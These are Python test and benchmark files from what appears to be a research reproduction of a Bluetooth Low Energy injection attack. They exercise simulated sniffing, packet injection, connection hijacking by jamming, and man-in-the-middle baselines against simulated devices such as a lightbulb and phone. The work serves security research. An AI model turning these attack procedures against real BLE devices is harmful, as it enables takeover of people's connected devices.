        topo.place("attacker", -2.0, 0.0)
        medium = Medium(sim, topo)
        bulb = Lightbulb(sim, medium, "peripheral")
        central = MasterLinkLayer(
            sim, medium, "central",
            BdAddress.from_str("C0:FF:EE:00:00:02"),
            interval=36, timeout=300)
        attacker_radio = Transceiver(sim, medium, "attacker")
        install_engine(sim, medium, central, bulb.ll, engine=engine)
        bulb.power_on()
        central.connect(bulb.address)
        sim.run(until_us=2_000_000)
        assert central.is_connected and bulb.ll.is_connected
        if attacker_tx_at is not None:
            def rogue_tx():
                conn = central.conn
                attacker_radio.transmit(
                    conn.params.access_address, b"\x01\x00",
                    0xBADBAD, conn.current_channel or 0)
            sim.schedule_at(attacker_tx_at, rogue_tx, "attacker-rogue-tx")
        sim.run(until_us=30_000_000)
        return sim

    def test_quiet_world_fast_forwards(self):
        fastforward.reset_fast_forward_count()
        ref, fast = run_both_engines(self._build)
        assert fastforward.events_fast_forwarded() > 0

    def test_mid_window_attacker_tx_bails_out_cleanly(self):
        # The rogue frame adds a 4th live event, so the engine must stand
        # down, let the reference path absorb the disturbance (collisions,
        # retransmissions, missed events and all), then re-engage — with
        # traces still byte-identical throughout.
        fastforward.reset_fast_forward_count()
        run_both_engines(
            lambda engine: self._build(engine, attacker_tx_at=10_000_000.0))
        assert fastforward.events_fast_forwarded() > 0
        counter_after_disturbance = fastforward.events_fast_forwarded()
        assert counter_after_disturbance > 0


class TestIndexedVsBroadcast:
    """The indexed medium must be a pure optimisation: same traces, same
    results as the O(world) broadcast medium, under both engines."""

    @staticmethod
    def _build(engine, indexed):
        from repro.core.attacker import Attacker
        from repro.core.injection import InjectionConfig
        from repro.devices.lightbulb import Lightbulb
        from repro.ll.master import MasterLinkLayer
        from repro.ll.pdu.address import BdAddress
        from repro.sim.fastforward import install_engine
        from repro.sim.interference import WifiInterferer
        from repro.sim.medium import Medium
        from repro.sim.simulator import Simulator
        from repro.sim.topology import Topology

        sim = Simulator(seed=23, trace_enabled=True)
        topo = Topology()
        topo.place("peripheral", 0.0, 0.0)
        topo.place("central", 2.0, 0.0)
        topo.place("attacker", -2.0, 0.0)
        topo.place("wifi", 1.0, 3.0)
        medium = Medium(sim, topo, indexed=indexed)
        bulb = Lightbulb(sim, medium, "peripheral")
        central = MasterLinkLayer(
            sim, medium, "central",
            BdAddress.from_str("C0:FF:EE:00:00:02"),
            interval=36, timeout=300)
        attacker = Attacker(sim, medium, "attacker",
                            injection_config=InjectionConfig(max_attempts=100))
        # Co-located Wi-Fi bursts give collision resolution real work, so
        # the equivalence covers the interference path too.
        WifiInterferer(sim, medium, "wifi", duty_cycle=0.10).start()
        install_engine(sim, medium, central, bulb.ll, engine=engine)
        attacker.sniff_new_connections()
        bulb.power_on()
        central.connect(bulb.address)
        sim.run(until_us=2_000_000)
        if attacker.synchronized:
            handle = bulb.gatt.find_characteristic(0xFF11).value_handle
            from repro.experiments.common import build_injection_payload

            payload, llid = build_injection_payload(14, handle)
            attacker.inject(payload, llid)
        sim.run(until_us=10_000_000)
        return sim

    @pytest.mark.parametrize("engine", ["reference", "fast"])
    def test_traces_byte_identical(self, engine):
        indexed = canonical_trace(self._build(engine, indexed=True))
        broadcast = canonical_trace(self._build(engine, indexed=False))
        assert len(indexed) == len(broadcast), (
            f"trace length diverged: indexed={len(indexed)} "
            f"broadcast={len(broadcast)}")
        for i, (a, b) in enumerate(zip(indexed, broadcast)):
            assert a == b, (
                f"trace diverged at record {i}:\n  indexed: {a}\nbroadcast: {b}")

    def test_trial_results_bit_identical(self, monkeypatch):
        # The stock experiment world, forced through each medium mode.
        from repro.sim.medium import Medium

        trial = InjectionTrial(seed=21)
        original_init = Medium.__init__
        outcomes = {}
        for mode in (True, False):
            def patched(self, sim, topology=None, *args, _mode=mode, **kwargs):
                kwargs.setdefault("indexed", _mode)
                original_init(self, sim, topology, *args, **kwargs)

            monkeypatch.setattr(Medium, "__init__", patched)
            result, sim = run_trial_world(trial, engine="reference",
                                          trace_enabled=True)
            outcomes[mode] = (result, canonical_trace(sim))
        assert outcomes[True] == outcomes[False]


class TestEngineSelection:
    def test_resolve_engine_explicit(self):
        assert fastforward.resolve_engine("reference") == "reference"
        assert fastforward.resolve_engine("fast") == "fast"

    def test_resolve_engine_env(self, monkeypatch):
        monkeypatch.setenv(fastforward.ENGINE_ENV_VAR, "reference")
        assert fastforward.resolve_engine() == "reference"
        monkeypatch.delenv(fastforward.ENGINE_ENV_VAR)
        assert fastforward.resolve_engine() == "fast"

    def test_resolve_engine_rejects_unknown(self):
        from repro.errors import ConfigurationError

        with pytest.raises(ConfigurationError):
            fastforward.resolve_engine("warp")

    def test_install_engine_reference_is_noop(self):
        from repro.sim.simulator import Simulator

        sim = Simulator(seed=1)
        assert fastforward.install_engine(
            sim, None, None, None, engine="reference") is None
        assert sim._fast_forward is None
