"""Tests for the related-work baselines (paper §II comparison)."""

import pytest

from repro.core.attacker import Attacker
from repro.core.baselines import BtleJackHijack, BtleJuiceMitm, GattackerMitm
from repro.devices import Lightbulb, Smartphone
from repro.host.stack import CentralHost
from repro.ll.master import MasterLinkLayer
from repro.ll.pdu.address import BdAddress
from repro.sim.medium import Medium
from repro.sim.simulator import Simulator
from repro.sim.topology import Topology


def build_btlejack_world(seed=71, timeout=100):
    sim = Simulator(seed=seed)
    topo = Topology.equilateral_triangle(("bulb", "phone", "attacker"))
    medium = Medium(sim, topo)
    bulb = Lightbulb(sim, medium, "bulb")
    phone = MasterLinkLayer(sim, medium, "phone",
                            BdAddress.from_str("C0:FF:EE:00:00:07"),
                            interval=36, timeout=timeout)
    CentralHost(phone)
    attacker = Attacker(sim, medium, "attacker")
    attacker.sniff_new_connections()
    bulb.power_on()
    phone.connect(bulb.address)
    sim.run(until_us=1_500_000)
    assert attacker.synchronized
    attacker.release_radio()
    return sim, bulb, phone, attacker


class TestBtleJack:
    def test_hijack_succeeds(self):
        sim, bulb, phone, attacker = build_btlejack_world()
        results = []
        hijack = BtleJackHijack(sim, attacker.radio, attacker.connection)
        hijack.start(on_done=results.append)
        sim.run(until_us=30_000_000)
        assert results and results[0].hijacked

    def test_master_starved_out(self):
        sim, bulb, phone, attacker = build_btlejack_world(seed=72)
        reasons = []
        phone.on_disconnected = reasons.append
        hijack = BtleJackHijack(sim, attacker.radio, attacker.connection)
        hijack.start()
        sim.run(until_us=30_000_000)
        assert reasons == ["supervision timeout"]

    def test_slave_answers_the_attacker(self):
        sim, bulb, phone, attacker = build_btlejack_world(seed=73)
        results = []
        hijack = BtleJackHijack(sim, attacker.radio, attacker.connection)
        hijack.start(on_done=results.append)
        sim.run(until_us=30_000_000)
        fake = results[0].fake_master
        assert fake.responses_heard > 10
        assert bulb.ll.is_connected

    def test_jamming_cost_scales_with_timeout(self):
        """The paper's stealth argument: jamming needs a frame per event
        for a whole supervision timeout, InjectaBLE needs a handful."""
        sim, bulb, phone, attacker = build_btlejack_world(seed=74,
                                                          timeout=100)
        results = []
        hijack = BtleJackHijack(sim, attacker.radio, attacker.connection)
        hijack.start(on_done=results.append)
        sim.run(until_us=30_000_000)
        # timeout 1 s at 45 ms interval ≈ 22 events of jamming.
        assert results[0].jam_frames >= 15


def build_spoof_world(seed):
    sim = Simulator(seed=seed)
    topo = Topology()
    topo.place("bulb", 0.0, 0.0)
    topo.place("phone", 2.0, 0.0)
    topo.place("attacker", 1.0, 1.0)
    medium = Medium(sim, topo)
    bulb = Lightbulb(sim, medium, "bulb")
    phone = Smartphone(sim, medium, "phone")
    return sim, medium, bulb, phone


class TestGattacker:
    def test_pre_connection_capture(self):
        sim, medium, bulb, phone = build_spoof_world(seed=81)
        tool = GattackerMitm(sim, medium, "attacker", victim=bulb)
        bulb.power_on()
        tool.start()
        sim.run(until_us=300_000)
        phone.connect_to(bulb.address)
        sim.run(until_us=10_000_000)
        assert tool.result.central_captured

    def test_cannot_attack_established_connection(self):
        """The gap InjectaBLE closes: spoofing tools need the advertising
        phase; once connected, there is nothing to spoof."""
        sim, medium, bulb, phone = build_spoof_world(seed=82)
        tool = GattackerMitm(sim, medium, "attacker", victim=bulb)
        bulb.power_on()
        phone.connect_to(bulb.address)
        sim.run(until_us=2_000_000)
        assert phone.is_connected
        tool.start()
        sim.run(until_us=12_000_000)
        assert not tool.result.central_captured
        assert phone.is_connected  # victims unaffected

    def test_forwards_writes_to_real_device(self):
        sim, medium, bulb, phone = build_spoof_world(seed=83)
        tool = GattackerMitm(sim, medium, "attacker", victim=bulb)
        bulb.power_on()
        tool.start()
        sim.run(until_us=300_000)
        phone.connect_to(bulb.address)
        sim.run(until_us=10_000_000)
        if not tool.result.central_captured or not tool.result.proxy_connected:
            pytest.skip("race lost in this seed; capture covered elsewhere")
        clone_ctrl = tool.clone_gatt.find_characteristic(0xFF11)
        phone.gatt.write(clone_ctrl.value_handle,
                         Lightbulb.power_payload(False))
        sim.run(until_us=sim.now + 5_000_000)
        assert tool.result.forwarded_writes >= 1
        assert not bulb.is_on


class TestBtleJuice:
    def test_pre_connection_interposition(self):
        sim, medium, bulb, phone = build_spoof_world(seed=84)
        tool = BtleJuiceMitm(sim, medium, "attacker", victim=bulb)
        bulb.power_on()
        tool.start()
        sim.run(until_us=2_000_000)
        assert tool.result.proxy_connected  # silenced the real device
        phone.connect_to(bulb.address)
        sim.run(until_us=12_000_000)
        assert tool.result.central_captured

    def test_cannot_attack_established_connection(self):
        sim, medium, bulb, phone = build_spoof_world(seed=85)
        tool = BtleJuiceMitm(sim, medium, "attacker", victim=bulb)
        bulb.power_on()
        phone.connect_to(bulb.address)
        sim.run(until_us=2_000_000)
        tool.start()
        sim.run(until_us=12_000_000)
        # The real device is busy: the proxy cannot even connect.
        assert not tool.result.central_captured
        assert phone.is_connected
