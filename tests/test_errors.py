"""Tests for the exception hierarchy contract."""

import pytest

from repro import errors


class TestHierarchy:
    @pytest.mark.parametrize("cls", [
        errors.CodecError, errors.SimulationError, errors.SchedulingError,
        errors.MediumError, errors.LinkLayerError,
        errors.ConnectionStateError, errors.ProcedureError,
        errors.HostError, errors.AttError, errors.SecurityError,
        errors.AttackError, errors.SnifferError, errors.InjectionError,
        errors.HijackError, errors.ConfigurationError,
    ])
    def test_all_derive_from_repro_error(self, cls):
        assert issubclass(cls, errors.ReproError)

    def test_scheduling_is_simulation_error(self):
        assert issubclass(errors.SchedulingError, errors.SimulationError)

    def test_sniffer_is_attack_error(self):
        assert issubclass(errors.SnifferError, errors.AttackError)

    def test_connection_state_is_link_layer_error(self):
        assert issubclass(errors.ConnectionStateError, errors.LinkLayerError)

    def test_mic_error_is_security_error(self):
        from repro.crypto.session import MicError

        assert issubclass(MicError, errors.SecurityError)


class TestAttError:
    def test_carries_code_and_handle(self):
        exc = errors.AttError(0x0A, handle=0x42)
        assert exc.code == 0x0A and exc.handle == 0x42
        assert "0x0A" in str(exc) and "0x0042" in str(exc)

    def test_custom_message(self):
        exc = errors.AttError(0x01, message="boom")
        assert str(exc) == "boom"


class TestCatchability:
    def test_single_base_catches_subsystem_errors(self):
        """API consumers can catch ReproError at a boundary."""
        from repro.phy.crc import crc24

        with pytest.raises(errors.ReproError):
            crc24(b"x", 1 << 24)

    def test_errors_do_not_leak_bare_exception(self):
        from repro.ll.csa1 import Csa1

        try:
            Csa1(hop_increment=99)
        except errors.ReproError:
            pass
        else:  # pragma: no cover
            pytest.fail("expected a ReproError subclass")
