"""Unit tests for the event queue."""

import pytest

from repro.errors import SchedulingError
from repro.sim.events import EventQueue


class TestEventQueue:
    def test_orders_by_time(self):
        queue = EventQueue()
        fired = []
        queue.push(30.0, lambda: fired.append(3))
        queue.push(10.0, lambda: fired.append(1))
        queue.push(20.0, lambda: fired.append(2))
        while (event := queue.pop()) is not None:
            event.handler()
        assert fired == [1, 2, 3]

    def test_ties_fire_in_scheduling_order(self):
        queue = EventQueue()
        fired = []
        for i in range(5):
            queue.push(7.0, lambda i=i: fired.append(i))
        while (event := queue.pop()) is not None:
            event.handler()
        assert fired == [0, 1, 2, 3, 4]

    def test_cancelled_events_are_skipped(self):
        queue = EventQueue()
        fired = []
        keep = queue.push(1.0, lambda: fired.append("keep"))
        drop = queue.push(0.5, lambda: fired.append("drop"))
        drop.cancel()
        while (event := queue.pop()) is not None:
            event.handler()
        assert fired == ["keep"]
        assert keep.time_us == 1.0

    def test_len_excludes_cancelled(self):
        queue = EventQueue()
        a = queue.push(1.0, lambda: None)
        queue.push(2.0, lambda: None)
        assert len(queue) == 2
        a.cancel()
        assert len(queue) == 1

    def test_len_is_counter_maintained(self):
        # len() must stay exact through push/pop/cancel interleavings
        # (it is a live counter now, not a heap scan).
        queue = EventQueue()
        events = [queue.push(float(i), lambda: None) for i in range(6)]
        events[0].cancel()
        events[0].cancel()  # double cancel must not double-decrement
        assert len(queue) == 5
        popped = queue.pop()
        assert popped is events[1] and len(queue) == 4
        popped.cancel()  # cancelling after pop must not touch the count
        assert len(queue) == 4
        events[3].cancel()
        assert len(queue) == 3
        assert queue.peek_time() == 2.0
        queue.clear()
        assert len(queue) == 0
        events[4].cancel()  # cancel after clear: still safe
        assert len(queue) == 0

    def test_peek_time(self):
        queue = EventQueue()
        queue.push(9.0, lambda: None)
        first = queue.push(4.0, lambda: None)
        assert queue.peek_time() == 4.0
        first.cancel()
        assert queue.peek_time() == 9.0

    def test_peek_empty(self):
        assert EventQueue().peek_time() is None

    def test_pop_empty(self):
        assert EventQueue().pop() is None

    def test_clear(self):
        queue = EventQueue()
        queue.push(1.0, lambda: None)
        queue.clear()
        assert len(queue) == 0

    def test_clear_marks_events_cancelled(self):
        # Handles held by callers (e.g. the slave's _window_close, or the
        # fast-forward engine's trio snapshot) must observe the cancel:
        # a cleared event may not read as pending, and a later cancel()
        # through the stale handle must not corrupt the live counter.
        queue = EventQueue()
        events = [queue.push(float(i), lambda: None) for i in range(3)]
        queue.clear()
        for event in events:
            assert event.cancelled
            assert not event.pending
        queue.push(9.0, lambda: None)
        events[0].cancel()  # stale handle: must not decrement past 0
        assert len(queue) == 1

    def test_non_callable_rejected(self):
        with pytest.raises(SchedulingError):
            EventQueue().push(1.0, "not-callable")
