"""Tests for the Nordic BLE pcap writer/reader and the frame recorder."""

import io
import struct
from pathlib import Path

import pytest

from repro.devices import Lightbulb, Smartphone
from repro.telemetry import (
    DLT_NORDIC_BLE,
    FrameRecorder,
    NordicBleFrame,
    PcapFormatError,
    PcapWriter,
    pcap_bytes,
    read_pcap,
    write_pcap,
)
from repro.telemetry.sinks import read_jsonl

GOLDEN_PATH = Path(__file__).parent / "data" / "golden_nordic.pcap"

#: Exactly the frames the checked-in golden file was generated from.
GOLDEN_FRAMES = [
    NordicBleFrame(time_us=0, access_address=0x8E89BED6, channel=37,
                   rssi_dbm=-40, pdu=bytes.fromhex("4025aabbccddeeff"),
                   crc=0x123456, crc_ok=True),
    NordicBleFrame(time_us=1_250, access_address=0x50655074, channel=12,
                   rssi_dbm=-58, pdu=bytes.fromhex("0105010203040506"),
                   crc=0x00ABCD, crc_ok=True, master_to_slave=True,
                   event_counter=7),
    NordicBleFrame(time_us=1_400, access_address=0x50655074, channel=12,
                   rssi_dbm=-61, pdu=bytes.fromhex("0900"),
                   crc=0x0F0E0D, crc_ok=False, master_to_slave=False,
                   event_counter=7),
    NordicBleFrame(time_us=4_294_967_296 + 99, access_address=0x50655074,
                   channel=39, rssi_dbm=-127, pdu=bytes.fromhex("030412"),
                   crc=0xFFFFFF, crc_ok=True, encrypted=True,
                   event_counter=65535, board_id=3),
]


class TestRoundTrip:
    def test_frames_survive_write_read(self):
        assert read_pcap(io.BytesIO(pcap_bytes(GOLDEN_FRAMES))) \
            == GOLDEN_FRAMES

    def test_write_read_write_is_byte_identical(self):
        first = pcap_bytes(GOLDEN_FRAMES)
        again = pcap_bytes(read_pcap(io.BytesIO(first)))
        assert again == first

    def test_time_beyond_32bit_microseconds_is_preserved(self):
        [frame] = read_pcap(io.BytesIO(pcap_bytes([GOLDEN_FRAMES[-1]])))
        assert frame.time_us == 4_294_967_296 + 99

    def test_file_path_roundtrip(self, tmp_path):
        path = tmp_path / "cap.pcap"
        assert write_pcap(path, GOLDEN_FRAMES) == len(GOLDEN_FRAMES)
        assert read_pcap(path) == GOLDEN_FRAMES


class TestGoldenFile:
    def test_reader_parses_the_checked_in_capture(self):
        assert read_pcap(GOLDEN_PATH) == GOLDEN_FRAMES

    def test_writer_reproduces_the_checked_in_bytes(self):
        assert pcap_bytes(GOLDEN_FRAMES) == GOLDEN_PATH.read_bytes()

    def test_global_header_advertises_nordic_ble(self):
        magic, _maj, _min, _tz, _sig, _snap, network = struct.unpack(
            "<IHHiIII", GOLDEN_PATH.read_bytes()[:24])
        assert magic == 0xA1B2C3D4
        assert network == DLT_NORDIC_BLE == 272


class TestFlags:
    def test_flag_bits(self):
        base = GOLDEN_FRAMES[0]
        assert base.flags == 0b001
        assert GOLDEN_FRAMES[1].flags == 0b011
        assert GOLDEN_FRAMES[2].flags == 0b000
        assert GOLDEN_FRAMES[3].flags == 0b101


class TestStrictReader:
    def _valid(self):
        return bytearray(pcap_bytes(GOLDEN_FRAMES[:1]))

    def test_bad_magic(self):
        data = self._valid()
        data[0] ^= 0xFF
        with pytest.raises(PcapFormatError):
            read_pcap(io.BytesIO(bytes(data)))

    def test_wrong_linktype(self):
        data = self._valid()
        struct.pack_into("<I", data, 20, 1)  # DLT_EN10MB
        with pytest.raises(PcapFormatError):
            read_pcap(io.BytesIO(bytes(data)))

    def test_truncated_global_header(self):
        with pytest.raises(PcapFormatError):
            read_pcap(io.BytesIO(self._valid()[:10]))

    def test_truncated_record_body(self):
        with pytest.raises(PcapFormatError):
            read_pcap(io.BytesIO(bytes(self._valid()[:-3])))

    def test_sliced_record_rejected(self):
        data = self._valid()
        # incl_len (offset 24+8) != orig_len
        struct.pack_into("<I", data, 24 + 8, 5)
        with pytest.raises(PcapFormatError):
            read_pcap(io.BytesIO(bytes(data)))

    def test_payload_timestamp_must_match_record_header(self):
        data = self._valid()
        # payload layout: flags, channel, rssi, event LE16, then µs LE32 —
        # 5 bytes in, after the 7-byte Nordic header
        struct.pack_into("<I", data, 24 + 16 + 7 + 5, 999)
        with pytest.raises(PcapFormatError):
            read_pcap(io.BytesIO(bytes(data)))

    def test_unsupported_protocol_version(self):
        data = self._valid()
        data[24 + 16 + 3] = 1  # protover byte of the Nordic header
        with pytest.raises(PcapFormatError):
            read_pcap(io.BytesIO(bytes(data)))


class TestWriterValidation:
    def test_invalid_channel_rejected(self):
        bad = NordicBleFrame(time_us=0, access_address=1, channel=40,
                             rssi_dbm=-40, pdu=b"\x00", crc=0)
        with pytest.raises(PcapFormatError):
            pcap_bytes([bad])

    def test_oversized_pdu_rejected(self):
        bad = NordicBleFrame(time_us=0, access_address=1, channel=0,
                             rssi_dbm=-40, pdu=bytes(300), crc=0)
        with pytest.raises(PcapFormatError):
            pcap_bytes([bad])

    def test_rssi_is_clamped_to_a_magnitude_byte(self):
        loud = NordicBleFrame(time_us=0, access_address=1, channel=0,
                              rssi_dbm=20, pdu=b"\x00", crc=0)
        [back] = read_pcap(io.BytesIO(pcap_bytes([loud])))
        assert back.rssi_dbm == 0  # positive RSSI floors at magnitude 0

    def test_writer_on_open_file_stays_open(self):
        buffer = io.BytesIO()
        writer = PcapWriter(buffer)
        writer.write_frame(GOLDEN_FRAMES[0])
        writer.close()
        assert not buffer.closed and writer.written == 1


class TestFrameRecorder:
    def _world(self, triangle_world, max_frames=None):
        simulator, medium = triangle_world(names=("bulb", "phone", "mon"),
                                           seed=97)
        recorder = FrameRecorder(medium, max_frames=max_frames)
        bulb = Lightbulb(simulator, medium, "bulb")
        phone = Smartphone(simulator, medium, "phone", interval=36)
        bulb.power_on()
        phone.connect_to(bulb.address)
        simulator.run(until_us=1_500_000)
        assert phone.is_connected
        return recorder

    def test_capture_validates_crc_with_learned_init(self, triangle_world):
        recorder = self._world(triangle_world)
        assert len(recorder) > 10
        # CONNECT_REQ was on air, so every clean frame verifies
        assert all(f.crc_ok for f in recorder.frames)
        data = [f for f in recorder.frames
                if f.access_address != 0x8E89BED6]
        assert data and any(f.master_to_slave for f in data)
        assert any(not f.master_to_slave for f in data)
        assert max(f.event_counter for f in data) > 0

    def test_recorder_pcap_roundtrip_byte_identical(self, triangle_world,
                                                    tmp_path):
        recorder = self._world(triangle_world)
        path = tmp_path / "world.pcap"
        assert recorder.write_pcap(path) == len(recorder)
        frames = read_pcap(path)
        assert pcap_bytes(frames) == path.read_bytes()
        assert frames == list(recorder.frames)

    def test_recorder_jsonl_export(self, triangle_world, tmp_path):
        recorder = self._world(triangle_world)
        path = tmp_path / "world.jsonl"
        assert recorder.write_jsonl(path) == len(recorder)
        rows = read_jsonl(path)
        assert len(rows) == len(recorder)
        assert rows[0]["channel"] in range(40)
        assert bytes.fromhex(rows[0]["pdu"])  # hex-encoded PDU decodes

    def test_recorder_ring_bound(self, triangle_world):
        recorder = self._world(triangle_world, max_frames=5)
        assert len(recorder) == 5
        assert recorder.dropped > 0
