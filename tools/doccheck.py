#!/usr/bin/env python3
"""Standalone entry point for the executable-docs checker.

Equivalent to ``repro doccheck``; importable without installing the
package (adds the adjacent ``src/`` to ``sys.path`` when needed), so CI
and pre-commit hooks can call it directly::

    python tools/doccheck.py [files...] [--format json]
"""

from __future__ import annotations

import sys
from pathlib import Path


def main(argv=None) -> int:
    try:
        import repro  # noqa: F401 — probe for an installed package
    except ImportError:
        sys.path.insert(0, str(Path(__file__).resolve().parent.parent
                               / "src"))
    from repro.cli import main as cli_main

    return cli_main(["doccheck"] + list(sys.argv[1:] if argv is None
                                        else argv))


if __name__ == "__main__":
    sys.exit(main())
