"""E4 — Figure 9, "Wall" panel (paper §VII-C).

Same victims as experiment 3; the attacker stands behind an 8 dB interior
wall at 2 to 8 m from the Peripheral, 25 connections per position.

Asserted shape (paper):
  * the wall increases the number of attempts relative to free space;
  * variance grows with distance;
  * yet every tested connection still ends in a successful injection —
    "the attack is realistic ... even if the attacker is not in the same
    room as the target".
"""

from __future__ import annotations

import pytest

from benchmarks.conftest import N_CONNECTIONS, N_JOBS, publish
from repro.analysis.reporting import render_distribution_table
from repro.analysis.stats import box_stats
from repro.experiments.common import attempts_of, success_rate
from repro.experiments.distance import run_experiment_distance
from repro.experiments.wall import WALL_DISTANCES, run_experiment_wall


@pytest.mark.benchmark(group="fig9")
def test_fig9_wall(benchmark, results_dir, trial_cache):
    results = benchmark.pedantic(
        lambda: run_experiment_wall(base_seed=4,
                                    n_connections=N_CONNECTIONS,
                                    jobs=N_JOBS, cache=trial_cache),
        rounds=1, iterations=1,
    )
    samples = {f"{d:.0f} m (wall)": attempts_of(results[d])
               for d in WALL_DISTANCES}
    table = render_distribution_table(
        "Figure 9 / Wall experiment — injection attempts behind a wall",
        "position", samples)
    publish(results_dir, "fig9_wall", table)

    for distance in WALL_DISTANCES:
        assert success_rate(results[distance]) == 1.0, \
            f"{distance} m behind the wall failed"
    # The wall costs attempts: compare against the 2 m free-space baseline.
    # At 2 m the 8 dB wall is within sampling noise (allow a small slack);
    # across the whole sweep, and at the far positions, the cost is clear.
    free = run_experiment_distance(
        base_seed=4, n_connections=min(N_CONNECTIONS, 10),
        positions={"B (2 m)": 2.0}, jobs=N_JOBS, cache=trial_cache)
    free_mean = box_stats(attempts_of(free["B (2 m)"])).mean
    walled_near_mean = box_stats(attempts_of(results[2.0])).mean
    assert walled_near_mean >= free_mean - 1.0
    all_walled = [a for d in WALL_DISTANCES for a in attempts_of(results[d])]
    assert box_stats(all_walled).mean > free_mean
    assert box_stats(attempts_of(results[8.0])).mean > free_mean
    # Variance grows with distance behind the wall.
    assert box_stats(attempts_of(results[8.0])).variance >= \
        box_stats(attempts_of(results[2.0])).variance * 0.5
