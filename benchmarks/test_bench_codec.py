"""PERF-2 — codec-kernel throughput trajectory.

Times each table-driven primitive against its retained bit-level reference
(crc24, reverse_crc24_init, whiten — all on 64-byte frames, the paper's
over-the-air injection size class —, a cold 1000-event CSA#2 schedule, and
a single AES-128 block) and appends one record per primitive to
``BENCH_codec.json`` at the repo root, alongside ``BENCH_runner.json``.

Record schema (``schema`` = 1, mirroring the runner trajectory)::

    {"utc": ..., "primitive": ..., "ops_per_sec_ref": ...,
     "ops_per_sec_fast": ..., "speedup": ...}

Asserted (the PR's acceptance floor, far below measured headroom):
  * crc24 and whiten >= 5x on 64-byte frames;
  * a cold 1000-event CSA#2 schedule >= 3x (including block-fill cost);
  * reverse_crc24_init and the AES block >= 2x.

``REPRO_BENCH_CODEC_ITERS`` scales the fast-path iteration counts for CI
smoke runs (reference counts scale with it, floored at 20).
"""

from __future__ import annotations

import json
import os
import time
from datetime import datetime, timezone
from pathlib import Path
from typing import Callable

import pytest

from repro.crypto.aes import (
    aes128_encrypt_block,
    aes128_encrypt_block_reference,
)
from repro.ll import csa2 as csa2_module
from repro.ll.csa2 import Csa2
from repro.phy.crc import (
    crc24,
    crc24_reference,
    reverse_crc24_init,
    reverse_crc24_init_reference,
)
from repro.phy.whitening import whiten, whiten_reference

#: Trajectory artefact, kept at the repo root across PRs.
BENCH_FILE = Path(__file__).parent.parent / "BENCH_codec.json"

#: Fast-path iterations per primitive (references run ITERS // 10).
ITERS = int(os.environ.get("REPRO_BENCH_CODEC_ITERS", "2000"))

#: A 64-byte frame — the paper's injected Write Request size class.
FRAME = bytes((7 * i + 3) & 0xFF for i in range(64))
CRC_INIT = 0x555555
CHANNEL = 17
AES_KEY = bytes(range(16))
AES_BLOCK = bytes(range(16, 32))
CSA_AA = 0x71764129
CSA_EVENTS = 1000


def _ops_per_sec(fn: Callable[[], object], iters: int) -> float:
    iters = max(iters, 20)
    start = time.perf_counter()
    for _ in range(iters):
        fn()
    elapsed = time.perf_counter() - start
    return iters / elapsed if elapsed > 0 else float("inf")


def _csa2_schedule_fast() -> None:
    # Cold: drop the memoised schedules so block-fill cost is included.
    csa2_module.clear_schedule_cache()
    csa = Csa2(CSA_AA)
    for event in range(CSA_EVENTS):
        csa.channel_for_event(event)


def _csa2_schedule_reference() -> None:
    csa = Csa2(CSA_AA)
    for event in range(CSA_EVENTS):
        csa.channel_for_event_reference(event)


#: (primitive, fast thunk, reference thunk, fast iters divisor, floor)
PRIMITIVES = (
    ("crc24/64B",
     lambda: crc24(FRAME, CRC_INIT),
     lambda: crc24_reference(FRAME, CRC_INIT), 1, 5.0),
    ("reverse_crc24_init/64B",
     lambda: reverse_crc24_init(FRAME, CRC_INIT),
     lambda: reverse_crc24_init_reference(FRAME, CRC_INIT), 1, 2.0),
    ("whiten/64B",
     lambda: whiten(FRAME, CHANNEL),
     lambda: whiten_reference(FRAME, CHANNEL), 1, 5.0),
    ("csa2_schedule/1000ev",
     _csa2_schedule_fast, _csa2_schedule_reference, 50, 3.0),
    ("aes128_block",
     lambda: aes128_encrypt_block(AES_KEY, AES_BLOCK),
     lambda: aes128_encrypt_block_reference(AES_KEY, AES_BLOCK), 1, 2.0),
)


def _append_trajectory(records: list) -> None:
    try:
        data = json.loads(BENCH_FILE.read_text())
        assert isinstance(data.get("runs"), list)
    except (OSError, ValueError, AssertionError):
        data = {"schema": 1, "benchmark": "codec-kernels", "runs": []}
    data["runs"].extend(records)
    BENCH_FILE.write_text(json.dumps(data, indent=2) + "\n")


@pytest.mark.benchmark(group="perf")
def test_codec_kernel_throughput(benchmark, results_dir):
    utc = datetime.now(timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")
    records, failures = [], []
    for name, fast, reference, divisor, floor in PRIMITIVES:
        fast_iters = max(ITERS // divisor, 20)
        # Warm lazily-built tables/caches out of the measurement.
        fast(), reference()
        ops_fast = _ops_per_sec(fast, fast_iters)
        ops_ref = _ops_per_sec(reference, max(fast_iters // 10, 20))
        speedup = ops_fast / ops_ref
        records.append({
            "utc": utc,
            "primitive": name,
            "ops_per_sec_ref": round(ops_ref, 1),
            "ops_per_sec_fast": round(ops_fast, 1),
            "speedup": round(speedup, 2),
        })
        if speedup < floor:
            failures.append(f"{name}: {speedup:.2f}x < {floor}x")

    benchmark.pedantic(lambda: None, rounds=1, iterations=1)
    _append_trajectory(records)

    lines = ["PERF-2 — codec kernels (fast vs. bit-level reference)"]
    for record in records:
        lines.append(
            f"  {record['primitive']:>24}: "
            f"{record['ops_per_sec_ref']:>12.1f} -> "
            f"{record['ops_per_sec_fast']:>12.1f} ops/s "
            f"({record['speedup']:.2f}x)"
        )
    summary = "\n".join(lines)
    print("\n" + summary)
    (results_dir / "perf_codec.txt").write_text(summary + "\n")

    assert not failures, "; ".join(failures)
