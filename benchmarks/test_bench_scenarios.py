"""S-A .. S-D — the four attack scenarios across all three devices (§VI).

Regenerates the paper's scenario results as a table: each scenario is run
against the lightbulb, keyfob and smartwatch (scenario D's relay demo uses
the write path the phone drives, as in the paper), recording success and
the injection attempt count.  The runners live in
:mod:`repro.experiments.scenarios` (shared with the CLI).
"""

from __future__ import annotations

import pytest

from benchmarks.conftest import publish
from repro.analysis.reporting import render_series
from repro.experiments.scenarios import DEVICES, SCENARIOS


@pytest.mark.benchmark(group="scenarios")
def test_scenarios_all_devices(benchmark, results_dir):
    def run_all():
        rows = []
        seed = 1000
        for scenario_name, runner in SCENARIOS.items():
            for device_name, device_cls in DEVICES.items():
                seed += 13
                ok, attempts = runner(device_cls, seed)
                rows.append((f"{scenario_name} vs {device_name}",
                             "OK" if ok else "FAILED",
                             f"{attempts} attempt(s)"))
        return rows

    rows = benchmark.pedantic(run_all, rounds=1, iterations=1)
    table = render_series(
        "Scenarios A-D (paper §VI) across the three devices", rows)
    publish(results_dir, "scenarios", table)
    failures = [r for r in rows if r[1] != "OK"]
    assert not failures, f"scenario failures: {failures}"
